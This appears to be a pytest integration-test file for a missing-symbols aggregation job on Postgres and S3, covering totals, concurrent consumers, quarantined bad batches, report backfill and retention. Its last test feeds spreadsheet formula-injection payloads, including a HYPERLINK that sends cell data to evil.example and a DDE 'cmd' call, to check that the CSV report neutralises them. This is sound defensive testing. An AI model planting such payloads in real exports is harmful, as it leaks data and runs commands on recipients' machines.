"""The missing-symbols apps on real Postgres and S3: exact totals, concurrent consumers,
bad batches, backfilled reports, retention."""

from __future__ import annotations

import csv
import datetime as dt
import io
import random
import threading

from crontabber.store import connect
from jobs.missing_symbols import write_batch
from jobs.missing_symbols.consume import ConsumeSettings, consume
from jobs.missing_symbols.store import MissingSymbolStore
from tests.fixtures.missing_symbols_data import (
    AGGREGATE,
    REPORT,
    RETENTION,
    brute_force,
    entries,
    ini,
    object_time,
    random_events,
    symbols,
    table_totals,
    write_random,
)
from tests.helpers import s3_client


def test_totals_equal_a_brute_force_count_on_random_data(crontab, s3_bucket):
    written = write_random(s3_bucket, (0, 1, 500, 2000, 777))
    crontab.configure(entries(f"{AGGREGATE}|5m"), extra=ini(s3_bucket, per_transaction=2))
    assert crontab.run() == (0, "")
    assert crontab.state("missing-symbols").error_count == 0
    assert table_totals(crontab) == brute_force(written)
    batches = crontab.sql("SELECT status, events FROM missing_symbol_batch ORDER BY events")
    assert [(b["status"], b["events"]) for b in batches] == [
        ("ok", 0),
        ("ok", 1),
        ("ok", 500),
        ("ok", 777),
        ("ok", 2000),
    ]


def test_consumed_batches_are_skipped_and_new_ones_added(crontab, s3_bucket):
    written = write_random(s3_bucket, (300, 400))
    crontab.configure(entries(f"{AGGREGATE}|5m"), extra=ini(s3_bucket, workers=1))
    assert crontab.run("--job=missing-symbols", "--force")[0] == 0
    assert crontab.run("--job=missing-symbols", "--force")[0] == 0  # nothing new: no change
    assert table_totals(crontab) == brute_force(written)
    written += write_random(s3_bucket, (50,), seed=6)
    assert crontab.run("--job=missing-symbols", "--force")[0] == 0
    assert table_totals(crontab) == brute_force(written)
    assert crontab.sql("SELECT count(*) AS n FROM missing_symbol_batch") == [{"n": 3}]
    assert crontab.state("missing-symbols").error_count == 0


def test_concurrent_consumers_count_every_batch_exactly_once(crontab, s3_bucket):
    written = write_random(
        s3_bucket, [random.Random(i).randint(1, 400) for i in range(24)], n_symbols=50
    )
    settings = ConsumeSettings(s3_bucket, workers=1, batches_per_transaction=2)
    reports, errors = [], []
    start = threading.Barrier(4)

    def consumer():
        conn = connect(crontab.database)
        try:
            start.wait()
            reports.append(consume(MissingSymbolStore(conn), s3_client(), settings))
        except Exception as exc:  # noqa: BLE001 - reported below
            errors.append(exc)
        finally:
            conn.close()

    threads = [threading.Thread(target=consumer) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    assert errors == []
    assert sum(r.batches for r in reports) == 24
    assert table_totals(crontab) == brute_force(written)
    rows = crontab.sql(
        "SELECT count(*) AS n, count(DISTINCT key) AS keys FROM missing_symbol_batch"
    )
    assert rows == [{"n": 24, "keys": 24}]


BAD = {
    "malformed msgpack": b"\xc1\x01\x02",
    "truncated": None,  # filled in below: a good event cut short
    "not a map": [5],
    "missing debug_id": [{"debug_file": "a.pdb"}],
    "empty debug_file": [{"debug_file": "", "debug_id": "A" * 33}],
    "int debug_file": [{"debug_file": 7, "debug_id": "A" * 33}],
    "list code_id": [{"debug_file": "a.pdb", "debug_id": "A" * 33, "code_id": [1]}],
    "zero code_file": [{"debug_file": "a.pdb", "debug_id": "A" * 33, "code_file": 0}],
    "bool count": [{"debug_file": "a.pdb", "debug_id": "A" * 33, "count": True}],
    "negative count": [{"debug_file": "a.pdb", "debug_id": "A" * 33, "count": -1}],
    "bad seen_at": [{"debug_file": "a.pdb", "debug_id": "A" * 33, "seen_at": "yesterday"}],
    "millisecond seen_at": [
        {"debug_file": "a.pdb", "debug_id": "A" * 33, "seen_at": 1795000000000}
    ],
    "oversized string": [{"debug_file": "a" * 151 + ".pdb", "debug_id": "A" * 33}],
    "oversized event": [{"debug_file": "a.pdb", "debug_id": "A" * 33, "blob": b"x" * 70000}],
    "invalid debug id": [{"debug_file": "a.pdb", "debug_id": "not-hex"}],
    "control character": [{"debug_file": "a\x00.pdb", "debug_id": "A" * 33}],
    "invalid utf-8": b"\x82\xaadebug_file\xa3\xff\xfe\xfd\xa8debug_id\xa1A",
}
REASONS = {
    "malformed msgpack": "malformed msgpack",
    "truncated": "malformed msgpack",
    "invalid utf-8": "malformed msgpack",
    "missing debug_id": "missing key",
    "empty debug_file": "missing key",
    "oversized string": "oversized string",
    "oversized event": "oversized event",
    "invalid debug id": "invalid debug id",
}


def test_each_kind_of_bad_batch_is_quarantined_and_good_batches_still_count(crontab, s3_bucket):
    from jobs.missing_symbols.writer import encode_events

    s3 = s3_client()
    good = {"debug_file": "good.pdb", "debug_id": "B" * 33}
    written = write_random(s3_bucket, (100,))
    keys = {}
    for name, content in BAD.items():
        if content is None:
            content = encode_events([good])[:-3]
        elif isinstance(content, list):
            content = encode_events([good, good, *content, good])  # good events first
        keys[name] = f"missing/bad/{name.replace(' ', '-')}.msgpack"
        s3.put_object(Bucket=s3_bucket, Key=keys[name], Body=content)
    written += write_random(s3_bucket, (100,), seed=9)
    crontab.configure(entries(f"{AGGREGATE}|5m"), extra=ini(s3_bucket, workers=2))
    assert crontab.run() == (0, "")
    assert crontab.state("missing-symbols").error_count == 0
    assert table_totals(crontab) == brute_force(written)  # nothing of a bad batch counted
    rows = {
        r["key"]: r
        for r in crontab.sql(
            "SELECT key, status, reason, events FROM missing_symbol_batch WHERE key LIKE "
            "'missing/bad/%'"
        )
    }
    assert len(rows) == len(BAD)
    for name, key in keys.items():
        assert rows[key]["status"] == "quarantined", name
        assert rows[key]["reason"].startswith(REASONS.get(name, "wrong type")), (name, rows[key])
    assert rows[keys["bool count"]]["events"] == 2  # the good events read before the fault
    assert "event 3" in rows[keys["bool count"]]["reason"]


def read_report(s3_bucket, day):
    body = s3_client().get_object(Bucket=s3_bucket, Key=f"reports/missing-symbols/{day}.csv")
    return list(csv.reader(io.StringIO(body["Body"].read().decode())))


def test_reports_are_backfilled_one_per_missed_day(crontab, s3_bucket):
    s3 = s3_client()
    today = crontab.now().astimezone(dt.timezone.utc).date()
    days = [today - dt.timedelta(days=n) for n in (1, 2, 3)]
    events = []
    for n, day in enumerate(days, 1):
        noon = dt.datetime.combine(day, dt.time(12), dt.timezone.utc).isoformat()
        events += [
            {"debug_file": "a.pdb", "debug_id": "A" * 33, "seen_at": noon, "count": n},
            {
                "debug_file": "b.pdb",
                "debug_id": "B" * 33,
                "code_file": "b.dll",
                "code_id": "CAFE",
                "seen_at": noon,
                "count": 2 * n + 1,
            },
            {"debug_file": f"only{n}.pdb", "debug_id": "C" * 33, "seen_at": noon},
        ]
    write_batch(s3, s3_bucket, events)
    crontab.configure(entries(f"{AGGREGATE}|5m", f"{REPORT}|1d"), extra=ini(s3_bucket))
    assert crontab.run() == (0, "")
    assert read_report(s3_bucket, days[0]) == [
        ["debug_file", "debug_id", "code_file", "code_id", "count"],
        ["b.pdb", "B" * 33, "b.dll", "CAFE", "3"],
        ["a.pdb", "A" * 33, "", "", "1"],
        ["only1.pdb", "C" * 33, "", "", "1"],
    ]
    for day in days[1:]:
        s3.delete_object(Bucket=s3_bucket, Key=f"reports/missing-symbols/{day}.csv")
    crontab.wind(dt.timedelta(days=3), "missing-symbols-report")
    assert crontab.run() == (0, "")
    assert len(crontab.log("missing-symbols-report")) == 4  # first run, then three days
    for n, day in enumerate(days, 1):
        assert read_report(s3_bucket, day)[1:] == [
            ["b.pdb", "B" * 33, "b.dll", "CAFE", str(2 * n + 1)],
            ["a.pdb", "A" * 33, "", "", str(n)],
            [f"only{n}.pdb", "C" * 33, "", "", "1"],
        ]


def test_retention_deletes_old_symbols_and_days_in_batches(crontab, s3_bucket):
    s3 = s3_client()
    now = crontab.now().timestamp()
    old = [
        {"debug_file": f"old{i}.pdb", "debug_id": "A" * 33, "seen_at": now - 40 * 86400}
        for i in range(20)
    ]
    mixed = [
        {"debug_file": "mixed.pdb", "debug_id": "B" * 33, "seen_at": now - 40 * 86400},
        {"debug_file": "mixed.pdb", "debug_id": "B" * 33, "seen_at": now - 86400},
    ]
    write_batch(s3, s3_bucket, old + mixed)
    crontab.configure(
        entries(f"{AGGREGATE}|5m", f"{RETENTION}|1d"), extra=ini(s3_bucket, keep_days=30)
    )
    assert crontab.run() == (0, "")
    assert crontab.state("missing-symbols-retention").error_count == 0
    assert crontab.sql("SELECT debug_file, count FROM missing_symbol") == [
        {"debug_file": "mixed.pdb", "count": 2}
    ]
    assert [r["count"] for r in crontab.sql("SELECT count FROM missing_symbol_day")] == [1]


def test_a_vanished_batch_is_not_recorded(s3_bucket):
    from jobs.missing_symbols.inbox import DecodeTask, decode_batches

    result = decode_batches(DecodeTask(s3_bucket, ["missing/nope.msgpack"]), s3_client())
    assert result.gone == ["missing/nope.msgpack"] and result.outcomes == []


def test_forked_workers_never_share_the_parents_s3_connections(crontab, s3_bucket):
    """Regression: a client made in this process (workers=1) was inherited by forked
    workers, which could read each other's responses on the shared sockets (seen once as
    wrong totals; timing-dependent, so this test does not catch it every time)."""
    written = write_random(s3_bucket, (300,) * 4)
    settings = ConsumeSettings(s3_bucket, workers=1)
    conn = connect(crontab.database)
    try:
        consume(MissingSymbolStore(conn), s3_client(), settings)
        written += write_random(s3_bucket, (200,) * 8, seed=8)
        consume(MissingSymbolStore(conn), s3_client(), ConsumeSettings(s3_bucket, workers=2))
    finally:
        conn.close()
    assert table_totals(crontab) == brute_force(written)


def test_the_merge_without_grouping_writes_what_the_grouped_merge_writes(crontab):
    """One aggregate, one day per symbol: the ungrouped statements (the fast path)
    against the grouped ones, on the same staged rows, twice (inserts, then updates)."""
    from jobs.missing_symbols.aggregate import aggregate_batch, staging_chunks
    from jobs.missing_symbols.writer import encode_events

    rng = random.Random(7)
    events = [dict(e, count=rng.randint(1, 3)) for e in rng.choices(symbols(rng, 40), k=500)]
    aggregate = aggregate_batch([encode_events(events)], 1_795_000_000.0)
    assert aggregate.one_day_per_symbol()
    conn = connect(crontab.database)
    store = MissingSymbolStore(conn)
    tables = []
    for one_day in (True, False):
        with conn, conn.cursor() as cur:
            cur.execute("TRUNCATE missing_symbol, missing_symbol_day")
        for _ in range(2):
            with store.batches() as tx:
                assert tx.merge(staging_chunks(aggregate), one_day) == (40, 40)
        tables.append(
            (
                crontab.sql("SELECT * FROM missing_symbol ORDER BY hash"),
                crontab.sql("SELECT * FROM missing_symbol_day ORDER BY hash, day"),
            )
        )
    conn.close()
    assert tables[0] == tables[1]
    assert sum(row["count"] for row in tables[0][0]) == 2 * sum(e["count"] for e in events)


def test_fields_with_backslashes_commas_and_quotes_are_stored_exactly(crontab, s3_bucket):
    from jobs.missing_symbols.model import symbol_hash

    odd = {
        "debug_file": 'C:\\build\\x,"y".pdb',
        "debug_id": "0123456789ABCDEF0123456789ABCDEF1",
        "code_file": "\\\\server\\share\\n.dll",
        "code_id": "ABC\\",
    }
    write_batch(s3_client(), s3_bucket, [odd, odd])
    conn = connect(crontab.database)
    consume(MissingSymbolStore(conn), s3_client(), ConsumeSettings(s3_bucket, workers=1))
    conn.close()
    [row] = crontab.sql("SELECT * FROM missing_symbol")
    assert (row["debug_file"], row["code_file"], row["code_id"], row["count"]) == (
        odd["debug_file"],
        odd["code_file"],
        odd["code_id"],
        2,
    )
    assert row["hash"] == symbol_hash(
        odd["debug_file"], odd["debug_id"], odd["code_file"], odd["code_id"]
    )


def test_a_group_with_many_bad_batches_is_read_once_more_not_once_per_bad_batch(crontab, s3_bucket):
    """Good and bad batches interleaved (bad streams and bad events): one pass finds
    every bad batch, one more pass counts the good ones (GetObject calls counted on
    the real client the job reads with)."""
    from jobs.missing_symbols import inbox
    from jobs.missing_symbols.writer import encode_events

    s3 = s3_client()
    good = {"debug_file": "good.pdb", "debug_id": "B" * 33}
    bad_bodies = [
        encode_events([good])[:-3],  # truncated
        encode_events([good, {"debug_file": "x.pdb", "debug_id": "no"}]),  # invalid id
        encode_events([good, good]) + b"\xc1",  # malformed
        encode_events([good, {"debug_file": 7, "debug_id": "B" * 33}, good]) + b"\xc1",
    ]
    written = []
    for index, body in enumerate(bad_bodies):
        written += write_random(s3_bucket, (50,), seed=index)
        s3.put_object(Bucket=s3_bucket, Key=f"missing/bad-{index}.msgpack", Body=body)
    gets = []
    client = inbox._s3()
    client.meta.events.register("after-call.s3.GetObject", lambda **_: gets.append(1))
    conn = connect(crontab.database)
    report = consume(MissingSymbolStore(conn), s3, ConsumeSettings(s3_bucket, workers=1))
    conn.close()
    assert (report.batches, report.quarantined) == (8, 4)
    assert len(gets) == 8 + 4  # every batch once, then the four good ones again
    assert table_totals(crontab) == brute_force(written)
    reasons = {
        r["key"]: r["reason"]
        for r in crontab.sql(
            "SELECT key, reason FROM missing_symbol_batch WHERE status = 'quarantined'"
        )
    }
    assert reasons["missing/bad-0.msgpack"].startswith("malformed msgpack: event 1: truncated")
    assert reasons["missing/bad-1.msgpack"].startswith("invalid debug id: event 2")
    assert reasons["missing/bad-2.msgpack"].startswith("malformed msgpack: event 3")
    assert reasons["missing/bad-3.msgpack"].startswith("wrong type: event 2")  # before the byte


def test_report_cells_a_spreadsheet_would_evaluate_are_neutralised(crontab, s3_bucket):
    """Names from a batch writer that a spreadsheet takes for formulas (issue #24 item 8) get
    a single quote in front in the daily report; other names are unchanged."""
    today = crontab.now().astimezone(dt.timezone.utc).date()
    noon = dt.datetime.combine(today - dt.timedelta(days=1), dt.time(12), dt.timezone.utc)
    # (a tab or CR never reaches the report: the batch check refuses control characters)
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "+1+2",
        "-2+3",
        "@SUM(A1:A9)",
        "=cmd|' /C calc'!A0",
        ' =HYPERLINK("x")',
        "  @SUM(A1)",
        "'=1+1",
        "'quoted",
    ]
    events = [
        {
            "debug_file": name,
            "debug_id": "A" * 33,
            "code_file": name,
            "code_id": "C0DE",
            "seen_at": noon.isoformat(),
            "count": n,
        }
        for n, name in enumerate(hostile, 2)
    ]
    events.append(
        {"debug_file": "plain-name.pdb", "debug_id": "B" * 33, "seen_at": noon.isoformat()}
    )
    write_batch(s3_client(), s3_bucket, events)
    crontab.configure(entries(f"{AGGREGATE}|5m", f"{REPORT}|1d"), extra=ini(s3_bucket))
    assert crontab.run() == (0, "")
    rows = read_report(s3_bucket, today - dt.timedelta(days=1))[1:]
    by_count = {int(r[4]): r for r in rows}
    for n, name in enumerate(hostile, 2):
        assert by_count[n][0] == by_count[n][2] == "'" + name, by_count[n]
    assert by_count[1][0] == "plain-name.pdb"
    assert not any(
        cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r
    )
    # the reader's rule is exact: a cell beginning with ' had one added (security review I-4)
    assert {r[0][1:] for r in rows if r[0].startswith("'")} == set(hostile)
